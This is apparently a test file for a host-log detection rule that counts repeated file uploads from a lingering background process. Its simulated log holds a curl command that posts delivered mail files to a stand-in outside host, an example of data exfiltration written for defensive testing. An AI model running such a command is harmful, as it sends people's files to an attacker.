import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Alert } from '../../events/alert.ts';
import { DAY, HOUR, HostLog } from '../an0656-phishing-attachment-executed/host-log.test-support.ts';
import { firesAt, scanLog } from '../an0656-phishing-attachment-executed/stories.test-support.ts';

/** A loop that was left behind posts each new message, `count` of them, an hour apart. */
async function posted(count: number, side = false): Promise<Alert> {
  const log = new HostLog();
  const loop = log.shell('dev').run('/home/dev/.cache/sync', { by: '/bin/bash' });
  log.wait(DAY);
  const started: ReturnType<typeof loop.run>[] = [];
  for (let at = 0; at < count; at++) {
    const { path } = log.deliver({ to: 'dev' });
    const curl = loop.run(`/usr/bin/curl -s -F document=@${path} http://chat.example.com/send`).read(path);
    started.push(curl);
    if (!side) curl.connect('203.0.113.82', 80);
    log.wait(HOUR);
  }
  // All at once: each is told of twice, and not one after the other.
  if (side) for (const curl of started) curl.connect('203.0.113.82', 80);
  return firesAt(await scanLog(log), 'AN1310', 'medium');
}

test('what goes on beyond the transfers that are told is counted, and its end is told', async () => {
  const alert = await posted(20);
  assert.match(alert.story, /; it went on until 20\S+Z, 20 transfers in all\.$/);
  const last = alert.steps.findLast(({ kind }) => kind === 'network.connected');
  assert.ok(alert.story.includes(last?.time ?? 'none'));
  const read = alert.factors.find(({ name }) => name === 'mail store read');
  assert.match(read?.evidence ?? '', /^1 box /, 'a name before the file makes no other box');
});

test('one process is one transfer, however its records mix', async () => {
  assert.match((await posted(12, true)).story, /, 12 transfers in all\.$/);
});

test('where all are told nothing is added', async () => {
  assert.doesNotMatch((await posted(3)).story, /went on/);
});
